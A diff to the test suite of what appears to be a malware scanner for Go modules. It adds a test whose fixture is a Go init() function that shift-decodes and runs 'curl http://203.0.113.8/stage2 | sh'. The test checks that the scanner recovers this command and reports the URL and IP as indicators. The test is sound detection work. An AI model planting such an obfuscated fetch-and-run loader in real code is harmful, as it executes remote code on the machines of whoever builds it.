@@ -95,6 +95,37 @@ test('scan processes started from `node -e` run the worker, not the script again
   }
 });
 
+test('what recovery undid for a rule is an indicator even when the IOC pass does not run the declaration', async () => {
+  // A shift decoder: none of the shapes (XOR, tables, base64...) that make the IOC pass run a declaration.
+  const dir = makeModule({
+    'go.mod': 'module example.test/m\n',
+    'x.go': `package m
+
+import "os/exec"
+
+func decode(s string) string {
+	b := []byte(s)
+	for i := range b {
+		b[i] -= 3
+	}
+	return string(b)
+}
+
+func init() {
+	exec.Command("/bin/sh", "-c", decode("fxuo#kwws=225361314461;2vwdjh5#\\x7f#vk")).Start()
+}
+`,
+  });
+  try {
+    const r = await scanModule(dir, { rules: loadRules(), workers: 0 });
+    assert.ok(r.findings.some((f) => f.recoveredStrings.some((v) => v.includes('curl http://203.0.113.8/stage2 | sh'))), JSON.stringify(r.findings));
+    assert.deepEqual(r.iocs.urls, ['http://203.0.113.8/stage2']);
+    assert.deepEqual(r.iocs.ips, ['203.0.113.8']);
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
+
 test('fileRole tells test, testdata, vendor and never-built files apart', () => {
   assert.equal(fileRole('a.go'), 'source');
   assert.equal(fileRole('x/a_test.go'), 'test');
